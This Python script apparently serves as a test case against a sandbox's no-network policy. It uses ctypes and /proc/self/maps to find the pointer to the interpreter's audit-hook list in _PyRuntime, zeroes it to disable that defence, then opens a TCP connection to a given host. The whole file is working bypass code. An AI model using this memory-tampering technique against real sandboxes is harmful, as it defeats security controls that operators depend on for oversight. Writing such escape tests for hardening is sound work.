# policy: --no-network --seal
# evidence: heard tcp
# args: {host} {port}
# needs: module ctypes

# The runtime's list of hooks starts with a pointer in _PyRuntime: zeroing what points to our
# entry disarms layer 1. Found by scanning for the pointer to a known C hook's entry.
import ctypes
import socket
import sys

with open("/proc/self/maps") as maps:
    spans = [
        [int(part, 16) for part in line.split()[0].split("-")]
        for line in maps
        if " rw-p " in line and "[stack]" not in line
    ]


def mapped(address):
    return any(start <= address < end - 24 for start, end in spans)


runtime = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, "_PyRuntime"))
code = []
with open("/proc/self/maps") as maps:
    code = [
        [int(part, 16) for part in line.split()[0].split("-")] for line in maps if " r-xp " in line
    ]


def executable(address):
    return any(start <= address < end for start, end in code)


for offset in range(0, 4096, 8):
    head = ctypes.c_uint64.from_address(runtime + offset).value
    if head % 8 == 0 and mapped(head):
        following, function = (ctypes.c_uint64.from_address(head + 8 * i).value for i in (0, 1))
        if executable(function) and (following == 0 or mapped(following)):
            ctypes.c_uint64.from_address(runtime + offset).value = 0
socket.create_connection((sys.argv[1], int(sys.argv[2])))
